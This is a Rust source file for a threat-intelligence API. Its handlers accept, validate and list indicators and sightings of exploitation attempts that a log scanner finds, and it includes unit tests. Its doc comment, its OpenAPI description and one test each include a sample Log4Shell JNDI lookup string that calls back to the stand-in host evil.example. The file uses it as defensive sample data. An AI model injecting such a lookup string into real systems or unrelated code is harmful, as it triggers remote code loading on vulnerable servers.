//! Indicators and sightings under `/api/sightings` and `/api/indicators`:
//! what `vigilo logs --upload` reports from the exploitation attempts found
//! in an organisation's logs.
//!
//! The upload names the sensor (the host that ran `vigilo logs`) and the
//! indicators it found, each with its hit count and first/last seen:
//!
//! ```text
//! {
//!   "sensor": "web-01",
//!   "indicators": [
//!     { "kind": "domain-name",               // domain-name | ipv4-addr | ipv6-addr | url
//!       "value": "evil.example",
//!       "role": "callback",                  // callback | payload | source
//!       "rules": ["log4shell-jndi"],         // optional
//!       "count": 3,                          // at least 1
//!       "first_seen": "2021-12-10T10:00:00Z", // optional (null: unknown)
//!       "last_seen": "2021-12-10T12:00:00Z",  // optional
//!       "example": "${jndi:ldap://evil.example/a}" },   // optional, ≤ 4 KiB
//!     ...
//!   ]
//! }
//! ```
//!
//! The body is validated whole before anything is stored: every problem is
//! a 422 naming its field's JSON pointer (`/indicators/3/value`); a body
//! that is not JSON is a 400. Then one transaction records a sighting per
//! indicator and updates the organisation's indicator totals.

use axum::extract::{Path, State};
use axum::http::{HeaderValue, StatusCode, header};
use axum::response::{IntoResponse, Response};
use jiff::Timestamp;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};
use utoipa::{IntoParams, ToSchema};
use utoipa_axum::router::OpenApiRouter;
use utoipa_axum::routes;
use vigilo_core::Scope;
use vigilo_core::indicator::{Indicator, IndicatorRole, Observable, ObservableKind};
use vigilo_store::sightings::{
    MAX_RULES, MAX_UPLOAD_INDICATORS, MAX_VALUE, check_example, check_rule, check_sensor,
    normalize_value,
};
use vigilo_store::{
    IndicatorFilter, Page, SightingFilter, StoredIndicator, StoredSighting, micros_to_rfc3339,
};

use crate::ApiQuery as Query;
use crate::AppState;
use crate::api::store_problem;
use crate::auth::Auth;
use crate::fields::{FieldErrors as Errors, string};
use crate::json::ApiJson;
use crate::problem::{Problem, ProblemBody};

/// Field errors listed in one problem document (the count names them all).
/// Rows per page by default, and at most.
const DEFAULT_PAGE: i64 = 100;
const MAX_PAGE: i64 = 1000;
/// Longest `q` filter, in bytes.
const MAX_QUERY: usize = 256;

const KINDS: &str = "domain-name, ipv4-addr, ipv6-addr, url";
const ROLES: &str = "callback, payload, source";
/// The members an indicator of an upload may have.
const INDICATOR_MEMBERS: [&str; 8] = [
    "kind",
    "value",
    "role",
    "rules",
    "count",
    "first_seen",
    "last_seen",
    "example",
];

pub(crate) fn router() -> OpenApiRouter<AppState> {
    OpenApiRouter::new()
        .routes(routes!(list_sightings, upload_sightings))
        .routes(routes!(list_indicators))
        .routes(routes!(get_indicator))
}

// ----- views -----

/// An indicator: one observable in one role, with its totals over every
/// upload of the organisation.
#[derive(Debug, Serialize, ToSchema)]
pub struct IndicatorView {
    pub id: String,
    /// `domain-name`, `ipv4-addr`, `ipv6-addr` or `url`.
    pub kind: String,
    /// Normalised: domain names lower-case without a trailing dot, addresses
    /// in canonical form, URLs as uploaded.
    pub value: String,
    /// `callback` (the host a lookup calls back to), `payload` (a URL or
    /// address inside a decoded command) or `source` (the requester).
    pub role: String,
    /// Detector rule codes over every upload, sorted.
    pub rules: Vec<String>,
    /// Hits over every upload.
    pub count: i64,
    /// Uploads that reported it.
    pub sightings: i64,
    /// Earliest hit; null while no upload knew the time.
    pub first_seen: Option<String>,
    /// Latest hit; null while no upload knew the time.
    pub last_seen: Option<String>,
    /// The first decoded payload that named it.
    pub example: String,
    /// First reported.
    pub created_at: String,
    /// Last reported.
    pub updated_at: String,
}

impl From<StoredIndicator> for IndicatorView {
    fn from(i: StoredIndicator) -> Self {
        IndicatorView {
            id: i.id,
            kind: i.kind.as_str().to_owned(),
            value: i.value,
            role: i.role.as_str().to_owned(),
            rules: i.rules,
            count: i.count,
            sightings: i.sightings,
            first_seen: i.first_seen.map(micros_to_rfc3339),
            last_seen: i.last_seen.map(micros_to_rfc3339),
            example: i.example,
            created_at: micros_to_rfc3339(i.created_at),
            updated_at: micros_to_rfc3339(i.updated_at),
        }
    }
}

/// One upload's report of one indicator.
#[derive(Debug, Serialize, ToSchema)]
pub struct SightingView {
    pub id: String,
    /// The upload it came with (all of one upload's sightings share it).
    pub upload_id: String,
    pub indicator_id: String,
    /// The indicator's kind, value and role.
    pub kind: String,
    pub value: String,
    pub role: String,
    /// The host that ran `vigilo logs`.
    pub sensor: String,
    /// Hits in this upload.
    pub count: i64,
    pub first_seen: Option<String>,
    pub last_seen: Option<String>,
    pub uploaded_at: String,
    /// Who uploaded it (`token:<id>`, `user:<id>`).
    pub uploaded_by: String,
}

impl From<StoredSighting> for SightingView {
    fn from(s: StoredSighting) -> Self {
        SightingView {
            id: s.id,
            upload_id: s.upload_id,
            indicator_id: s.indicator_id,
            kind: s.kind.as_str().to_owned(),
            value: s.value,
            role: s.role.as_str().to_owned(),
            sensor: s.sensor,
            count: s.count,
            first_seen: s.first_seen.map(micros_to_rfc3339),
            last_seen: s.last_seen.map(micros_to_rfc3339),
            uploaded_at: micros_to_rfc3339(s.uploaded_at),
            uploaded_by: s.uploaded_by,
        }
    }
}

/// What an upload stored.
#[derive(Debug, Serialize, ToSchema)]
pub struct SightingsUploaded {
    /// Distinct indicators reported (indicators of the body that normalise
    /// to the same kind, value and role count once).
    pub indicators: usize,
    /// Sightings recorded: one per distinct indicator.
    pub sightings: usize,
    /// Indicators new to the organisation.
    pub created: usize,
    /// Hits, summed over the upload.
    pub hits: i64,
    /// Lists this upload's sightings: `GET /api/sightings?upload=…`.
    pub upload_id: String,
}

/// A page of indicators.
#[derive(Debug, Serialize, ToSchema)]
pub struct IndicatorList {
    pub indicators: Vec<IndicatorView>,
    /// Pass as `after` for the next page; absent at the end.
    pub next_after: Option<String>,
}

/// An indicator and a page of its sightings.
#[derive(Debug, Serialize, ToSchema)]
pub struct IndicatorPage {
    pub indicator: IndicatorView,
    pub sightings: Vec<SightingView>,
    /// Pass as `after` for the next page of sightings; absent at the end.
    pub next_after: Option<String>,
}

/// A page of sightings.
#[derive(Debug, Serialize, ToSchema)]
pub struct SightingList {
    pub sightings: Vec<SightingView>,
    /// Pass as `after` for the next page; absent at the end.
    pub next_after: Option<String>,
}

#[derive(Debug, Deserialize, IntoParams)]
#[serde(deny_unknown_fields)]
pub struct IndicatorsQuery {
    /// Only this role: `callback`, `payload` or `source`.
    pub role: Option<String>,
    /// Only this kind: `domain-name`, `ipv4-addr`, `ipv6-addr` or `url`.
    pub kind: Option<String>,
    /// Only values containing this text (case-insensitive).
    pub q: Option<String>,
    /// Only indicators last seen at or after this RFC 3339 time.
    pub since: Option<String>,
    /// Return indicators after this id (the previous page's `next_after`).
    pub after: Option<String>,
    /// At most this many (default 100, at most 1000).
    pub limit: Option<i64>,
}

#[derive(Debug, Deserialize, IntoParams)]
#[serde(deny_unknown_fields)]
pub struct SightingsQuery {
    /// Only this indicator's sightings.
    pub indicator: Option<String>,
    /// Only this sensor's sightings.
    pub sensor: Option<String>,
    /// Only this upload's sightings.
    pub upload: Option<String>,
    /// Return sightings after this id (the previous page's `next_after`).
    pub after: Option<String>,
    /// At most this many (default 100, at most 1000).
    pub limit: Option<i64>,
}

#[derive(Debug, Deserialize, IntoParams)]
#[serde(deny_unknown_fields)]
pub struct PageQuery {
    /// Return sightings after this id (the previous page's `next_after`).
    pub after: Option<String>,
    /// At most this many sightings (default 100, at most 1000).
    pub limit: Option<i64>,
}

fn page(after: Option<String>, limit: Option<i64>) -> Result<Page, Problem> {
    let limit = limit.unwrap_or(DEFAULT_PAGE);
    if !(1..=MAX_PAGE).contains(&limit) {
        return Err(
            Problem::bad_request(format!("limit must be between 1 and {MAX_PAGE}"))
                .with_error("/limit", format!("must be between 1 and {MAX_PAGE}")),
        );
    }
    Ok(Page {
        after: after.filter(|a| !a.is_empty()),
        limit,
    })
}

/// The id to pass as `after` for the next page: the last one of a full page.
fn next_after<T>(rows: &[T], limit: i64, id: impl Fn(&T) -> &str) -> Option<String> {
    (rows.len() as i64 == limit)
        .then(|| rows.last().map(|r| id(r).to_owned()))
        .flatten()
}

// ----- validation -----

/// Member `key` of `obj` as an RFC 3339 time, when present.
fn time(
    obj: &Map<String, Value>,
    key: &str,
    pointer: &str,
    errors: &mut Errors,
) -> Option<Timestamp> {
    let s = string(obj, key, pointer, false, errors)?;
    match s.trim().parse::<Timestamp>() {
        Ok(t) => Some(t),
        Err(_) => {
            errors.push(
                format!("{pointer}/{key}"),
                "not an RFC 3339 time (e.g. 2021-12-10T10:00:00Z)",
            );
            None
        }
    }
}

/// Reads one indicator of an upload; `None` when it has errors (recorded).
fn read_indicator(item: &Value, pointer: &str, errors: &mut Errors) -> Option<Indicator> {
    let Some(obj) = item.as_object() else {
        errors.push(pointer.to_owned(), "must be an object");
        return None;
    };
    let before = errors.total();
    for key in obj.keys() {
        if !INDICATOR_MEMBERS.contains(&key.as_str()) {
            errors.push(
                crate::problem::pointer_push(pointer, key),
                format!(
                    "unknown member: an indicator has {}",
                    INDICATOR_MEMBERS.join(", ")
                ),
            );
        }
    }
    let kind = string(obj, "kind", pointer, true, errors).and_then(|k| {
        let kind = ObservableKind::parse(k);
        if kind.is_none() {
            errors.push(
                format!("{pointer}/kind"),
                format!("unknown kind {k:?}: expected one of {KINDS}"),
            );
        }
        kind
    });
    let role = string(obj, "role", pointer, true, errors).and_then(|r| {
        let role = IndicatorRole::parse(r);
        if role.is_none() {
            errors.push(
                format!("{pointer}/role"),
                format!("unknown role {r:?}: expected one of {ROLES}"),
            );
        }
        role
    });
    let value = string(obj, "value", pointer, true, errors).and_then(|v| {
        // The value is checked against its kind; without a kind only its size.
        let checked = match kind {
            Some(kind) => normalize_value(kind, v).map(|_| ()),
            None if v.len() > MAX_VALUE => Err(format!(
                "{} bytes, longer than the limit of {MAX_VALUE}",
                v.len()
            )),
            None => Ok(()),
        };
        match checked {
            Ok(()) => Some(v),
            Err(e) => {
                errors.push(format!("{pointer}/value"), e);
                None
            }
        }
    });
    let mut rules = Vec::new();
    match obj.get("rules") {
        None | Some(Value::Null) => {}
        Some(Value::Array(list)) if list.len() > MAX_RULES => errors.push(
            format!("{pointer}/rules"),
            format!(
                "{} rule codes, more than the limit of {MAX_RULES}",
                list.len()
            ),
        ),
        Some(Value::Array(list)) => {
            for (j, r) in list.iter().enumerate() {
                match r.as_str().map(|s| (s, check_rule(s))) {
                    Some((s, Ok(()))) => rules.push(s.to_owned()),
                    Some((_, Err(e))) => errors.push(format!("{pointer}/rules/{j}"), e),
                    None => errors.push(format!("{pointer}/rules/{j}"), "must be a string"),
                }
            }
        }
        Some(_) => errors.push(format!("{pointer}/rules"), "must be an array of rule codes"),
    }
    let count = match obj.get("count") {
        None | Some(Value::Null) => {
            errors.push(format!("{pointer}/count"), "required");
            None
        }
        Some(v) => match v.as_u64() {
            Some(n) if n >= 1 && i64::try_from(n).is_ok() => Some(n),
            Some(0) => {
                errors.push(format!("{pointer}/count"), "must be at least 1");
                None
            }
            _ => {
                errors.push(
                    format!("{pointer}/count"),
                    "must be an integer between 1 and 2^63 - 1",
                );
                None
            }
        },
    };
    let first_seen = time(obj, "first_seen", pointer, errors);
    let last_seen = time(obj, "last_seen", pointer, errors);
    if let (Some(f), Some(l)) = (first_seen, last_seen) {
        if f > l {
            errors.push(format!("{pointer}/first_seen"), "later than last_seen");
        }
    }
    let example = string(obj, "example", pointer, false, errors).unwrap_or_default();
    if let Err(e) = check_example(example) {
        errors.push(format!("{pointer}/example"), e);
    }
    if errors.total() > before {
        return None;
    }
    Some(Indicator {
        observable: Observable {
            kind: kind?,
            value: value?.to_owned(),
        },
        role: role?,
        rules,
        count: count?,
        first_seen,
        last_seen,
        example: example.to_owned(),
    })
}

/// Validates an upload whole: the sensor and the indicators to store.
fn read_upload(doc: &Value) -> Result<(String, Vec<Indicator>), Problem> {
    let Some(root) = doc.as_object() else {
        return Err(Problem::unprocessable(
            "the upload must be a JSON object with `sensor` and `indicators`",
        )
        .with_error("", "expected a JSON object"));
    };
    let mut errors = Errors::default();
    for key in root.keys() {
        if key != "sensor" && key != "indicators" {
            errors.push(
                crate::problem::pointer_push("", key),
                "unknown member: an upload has `sensor` and `indicators`",
            );
        }
    }
    let sensor =
        string(root, "sensor", "", true, &mut errors).and_then(|s| match check_sensor(s) {
            Ok(()) => Some(s.trim().to_owned()),
            Err(e) => {
                errors.push("/sensor", e);
                None
            }
        });
    let mut indicators = Vec::new();
    match root.get("indicators") {
        Some(Value::Array(list)) if list.len() > MAX_UPLOAD_INDICATORS => {
            return Err(Problem::unprocessable(format!(
                "at most {MAX_UPLOAD_INDICATORS} indicators per upload: split it"
            ))
            .with_error(
                "/indicators",
                format!(
                    "{} indicators, more than the limit of {MAX_UPLOAD_INDICATORS}",
                    list.len()
                ),
            ));
        }
        Some(Value::Array(list)) => {
            indicators.reserve(list.len());
            for (i, item) in list.iter().enumerate() {
                if let Some(ind) = read_indicator(item, &format!("/indicators/{i}"), &mut errors) {
                    indicators.push(ind);
                }
            }
        }
        None | Some(Value::Null) => errors.push("/indicators", "required"),
        Some(_) => errors.push("/indicators", "must be an array"),
    }
    errors.result("upload")?;
    let Some(sensor) = sensor else {
        // A missing sensor recorded an error above.
        return Err(Problem::internal_logged(
            "sightings upload validated without a sensor",
        ));
    };
    Ok((sensor, indicators))
}

// ----- handlers -----

/// Uploads what `vigilo logs` found: the sensor and its indicators. Validated
/// whole (422 naming each bad field's JSON pointer); then one transaction
/// records a sighting per indicator and updates the organisation's
/// indicators (counts add up, first/last seen widen, rule codes unite).
/// Answers 201 with `Location: /api/sightings?upload={upload_id}`.
#[utoipa::path(post, path = "/api/sightings", tag = "indicators",
    request_body(content = Object, description = "`{\"sensor\": \"web-01\", \"indicators\": [{\"kind\": \"domain-name\", \"value\": \"evil.example\", \"role\": \"callback\", \"rules\": [\"log4shell-jndi\"], \"count\": 3, \"first_seen\": \"2021-12-10T10:00:00Z\", \"last_seen\": \"2021-12-10T12:00:00Z\", \"example\": \"${jndi:ldap://evil.example/a}\"}]}`: kind one of domain-name, ipv4-addr, ipv6-addr, url; role one of callback, payload, source; count ≥ 1; times RFC 3339 or null; rules, times and example optional; at most 10,000 indicators, values and examples at most 4 KiB"),
    responses((status = 201, body = SightingsUploaded),
        (status = 400, body = ProblemBody), (status = 401, body = ProblemBody),
        (status = 403, body = ProblemBody), (status = 413, body = ProblemBody),
        (status = 415, body = ProblemBody), (status = 422, body = ProblemBody)),
    security(("token" = [])))]
async fn upload_sightings(
    State(state): State<AppState>,
    auth: Auth,
    ApiJson(doc): ApiJson<Value>,
) -> Result<Response, Problem> {
    auth.require(Scope::Write)?;
    let (sensor, indicators) = read_upload(&doc)?;
    drop(doc);
    let up = state
        .store
        .upload_sightings(&auth.actor, &auth.principal.org_id, &sensor, &indicators)
        .await
        .map_err(store_problem)?;
    let location = HeaderValue::from_str(&format!("/api/sightings?upload={}", up.upload_id))
        .map_err(Problem::internal_logged)?;
    let body = SightingsUploaded {
        indicators: up.indicators,
        sightings: up.sightings,
        created: up.created,
        hits: up.hits,
        upload_id: up.upload_id,
    };
    Ok((
        StatusCode::CREATED,
        [(header::LOCATION, location)],
        ApiJson(body),
    )
        .into_response())
}

/// The caller's organisation's sightings, in upload order, optionally of one
/// indicator, sensor or upload.
#[utoipa::path(get, path = "/api/sightings", tag = "indicators", params(SightingsQuery),
    responses((status = 200, body = SightingList), (status = 400, body = ProblemBody),
        (status = 401, body = ProblemBody), (status = 403, body = ProblemBody)),
    security(("token" = [])))]
async fn list_sightings(
    State(state): State<AppState>,
    auth: Auth,
    Query(q): Query<SightingsQuery>,
) -> Result<ApiJson<SightingList>, Problem> {
    auth.require(Scope::Read)?;
    let page = page(q.after, q.limit)?;
    let filter = SightingFilter {
        indicator: q.indicator.filter(|s| !s.is_empty()),
        sensor: q.sensor.filter(|s| !s.is_empty()),
        upload: q.upload.filter(|s| !s.is_empty()),
    };
    let rows = state
        .store
        .list_sightings(&auth.principal.org_id, &filter, &page)
        .await
        .map_err(store_problem)?;
    let next_after = next_after(&rows, page.limit, |s| &s.id);
    Ok(ApiJson(SightingList {
        sightings: rows.into_iter().map(SightingView::from).collect(),
        next_after,
    }))
}

/// The caller's organisation's indicators, in the order they were first
/// reported, filtered by role, kind, a substring of the value and the time
/// last seen.
#[utoipa::path(get, path = "/api/indicators", tag = "indicators", params(IndicatorsQuery),
    responses((status = 200, body = IndicatorList), (status = 400, body = ProblemBody),
        (status = 401, body = ProblemBody), (status = 403, body = ProblemBody)),
    security(("token" = [])))]
async fn list_indicators(
    State(state): State<AppState>,
    auth: Auth,
    Query(q): Query<IndicatorsQuery>,
) -> Result<ApiJson<IndicatorList>, Problem> {
    auth.require(Scope::Read)?;
    let page = page(q.after, q.limit)?;
    let bad = |member: &str, detail: String| {
        Problem::bad_request(format!("{member}: {detail}")).with_error(format!("/{member}"), detail)
    };
    let role = match q.role.as_deref().filter(|s| !s.is_empty()) {
        None => None,
        Some(r) => Some(IndicatorRole::parse(r).ok_or_else(|| {
            bad(
                "role",
                format!("unknown role {r:?}: expected one of {ROLES}"),
            )
        })?),
    };
    let kind = match q.kind.as_deref().filter(|s| !s.is_empty()) {
        None => None,
        Some(k) => Some(ObservableKind::parse(k).ok_or_else(|| {
            bad(
                "kind",
                format!("unknown kind {k:?}: expected one of {KINDS}"),
            )
        })?),
    };
    let since = match q.since.as_deref().filter(|s| !s.is_empty()) {
        None => None,
        Some(s) => Some(
            s.trim()
                .parse::<Timestamp>()
                .map_err(|_| bad("since", "not an RFC 3339 time".into()))?
                .as_microsecond(),
        ),
    };
    let text = q.q.filter(|s| !s.is_empty());
    if text.as_ref().is_some_and(|s| s.len() > MAX_QUERY) {
        return Err(bad("q", format!("longer than {MAX_QUERY} bytes")));
    }
    let filter = IndicatorFilter {
        role,
        kind,
        since,
        q: text,
    };
    let rows = state
        .store
        .list_indicators(&auth.principal.org_id, &filter, &page)
        .await
        .map_err(store_problem)?;
    let next_after = next_after(&rows, page.limit, |i| &i.id);
    Ok(ApiJson(IndicatorList {
        indicators: rows.into_iter().map(IndicatorView::from).collect(),
        next_after,
    }))
}

/// One of the caller's organisation's indicators with a page of its
/// sightings, in upload order. Another organisation's indicator is a 404.
#[utoipa::path(get, path = "/api/indicators/{id}", tag = "indicators", params(
        ("id" = String, Path, description = "indicator id"), PageQuery),
    responses((status = 200, body = IndicatorPage), (status = 400, body = ProblemBody),
        (status = 401, body = ProblemBody), (status = 403, body = ProblemBody),
        (status = 404, body = ProblemBody)),
    security(("token" = [])))]
async fn get_indicator(
    State(state): State<AppState>,
    auth: Auth,
    Path(id): Path<String>,
    Query(q): Query<PageQuery>,
) -> Result<ApiJson<IndicatorPage>, Problem> {
    auth.require(Scope::Read)?;
    let page = page(q.after, q.limit)?;
    let org = auth.principal.org_id.as_str();
    let indicator = state
        .store
        .indicator(org, &id)
        .await
        .map_err(store_problem)?
        .ok_or_else(|| Problem::not_found(format!("no indicator {id}")))?;
    let filter = SightingFilter {
        indicator: Some(indicator.id.clone()),
        ..SightingFilter::default()
    };
    let rows = state
        .store
        .list_sightings(org, &filter, &page)
        .await
        .map_err(store_problem)?;
    let next_after = next_after(&rows, page.limit, |s| &s.id);
    Ok(ApiJson(IndicatorPage {
        indicator: indicator.into(),
        sightings: rows.into_iter().map(SightingView::from).collect(),
        next_after,
    }))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn pointers(doc: &Value) -> Vec<String> {
        match read_upload(doc) {
            Ok(_) => Vec::new(),
            Err(p) => p.errors().iter().map(|e| e.pointer.clone()).collect(),
        }
    }

    #[test]
    fn the_documented_body_reads() {
        let doc = json!({"sensor": " web-01 ", "indicators": [
            {"kind": "domain-name", "value": "Evil.Example", "role": "callback",
             "rules": ["log4shell-jndi"], "count": 3, "first_seen": "2021-12-10T10:00:00Z",
             "last_seen": "2021-12-10T12:00:00Z", "example": "${jndi:ldap://evil.example/a}"},
            {"kind": "ipv4-addr", "value": "192.0.2.1", "role": "source", "count": 1,
             "first_seen": null, "last_seen": null},
        ]});
        let (sensor, list) = read_upload(&doc).unwrap();
        assert_eq!(sensor, "web-01");
        assert_eq!(list.len(), 2);
        assert_eq!(
            list[0].observable.value, "Evil.Example",
            "the store normalises"
        );
        assert_eq!(list[0].count, 3);
        assert_eq!(list[1].rules, Vec::<String>::new());
        assert_eq!(list[1].first_seen, None);
    }

    #[test]
    fn every_bad_member_is_named() {
        let doc = json!({"sensor": "", "extra": 1, "indicators": [
            {"kind": "hostname", "value": "x", "role": "callback", "count": 1},
            {"kind": "ipv4-addr", "value": "evil.example", "role": "attacker", "count": 0},
            {"kind": "url", "value": "http://e.example/", "role": "payload", "count": 1.5,
             "rules": ["ok", 7, "no spaces"], "first_seen": "2021-12-11T00:00:00Z",
             "last_seen": "2021-12-10T00:00:00Z", "example": "x\u{0}", "colour": "red"},
            "evil.example",
        ]});
        assert_eq!(
            pointers(&doc),
            [
                "/extra",
                "/sensor",
                "/indicators/0/kind",
                "/indicators/1/role",
                "/indicators/1/value",
                "/indicators/1/count",
                "/indicators/2/colour",
                "/indicators/2/rules/1",
                "/indicators/2/rules/2",
                "/indicators/2/count",
                "/indicators/2/first_seen",
                "/indicators/2/example",
                "/indicators/3",
            ]
        );
        assert_eq!(pointers(&json!({"sensor": "s"})), ["/indicators"]);
        assert_eq!(pointers(&json!({"indicators": []})), ["/sensor"]);
        assert_eq!(pointers(&json!([])), [""]);
    }
}
